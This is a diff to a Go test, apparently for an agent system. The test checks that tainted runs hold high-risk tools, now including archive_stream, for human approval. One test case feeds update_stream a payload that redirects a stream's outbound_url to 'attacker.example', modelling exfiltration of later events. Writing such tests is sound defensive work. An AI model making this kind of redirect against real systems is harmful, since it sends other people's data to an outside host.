@@ -60,8 +60,9 @@ func TestGateArguments(t *testing.T) {
 // event is tainted; in it grant_tool, publishing outside (but for a
 // reply on the stream the input came from) and changing a stream (which
 // could move where everyone's later events are sent) wait for a person
-// though the grants do not say so; local publishing and a run woken by
-// a person do not.
+// though the grants do not say so, and so does archiving one (which
+// stops it for good); local publishing and a run woken by a person do
+// not.
 func TestTaintedRunHoldsHighRiskTools(t *testing.T) {
 	f := newFixture(t)
 	withLead(t, f)
@@ -72,7 +73,7 @@ func TestTaintedRunHoldsHighRiskTools(t *testing.T) {
 	must(t)(st.CreatePosition(ctx, store.OwnerWorker, domain.Position{ID: "p-sub", RoleID: "r-desk", Title: "Sub", ReportsTo: "p-desk"}))
 	must(t)(st.HireWorker(ctx, store.OwnerWorker, domain.Worker{ID: "w-sub", Kind: domain.WorkerHuman, PositionID: "p-sub", Name: "Sub"}, nil))
 	f.follow(t, "w-desk", "s-hook", "s-inbox")
-	f.grant(t, "w-desk", "grant_tool", "publish", "update_stream")
+	f.grant(t, "w-desk", "grant_tool", "publish", "update_stream", "archive_stream")
 	run := func(t *testing.T, inbound bool) domain.Activation {
 		t.Helper()
 		if inbound {
@@ -108,6 +109,7 @@ func TestTaintedRunHoldsHighRiskTools(t *testing.T) {
 		{"a reply where the input came from in a tainted run", tainted.ID, "publish", `{"stream":"s-hook","body":"hi"}`, false},
 		{"outbound publish elsewhere in a tainted run", tainted.ID, "publish", `{"stream":"s-out","body":"hi"}`, true},
 		{"update_stream in a tainted run", tainted.ID, "update_stream", `{"id":"s-out","transport":{"config":{"outbound_url":"https://attacker.example/hook"}}}`, true},
+		{"archive_stream in a tainted run", tainted.ID, "archive_stream", `{"id":"s-out"}`, true},
 	} {
 		t.Run(c.name, func(t *testing.T) {
 			p := invokeAs(t, f, "w-desk", c.activation, c.tool, c.args)
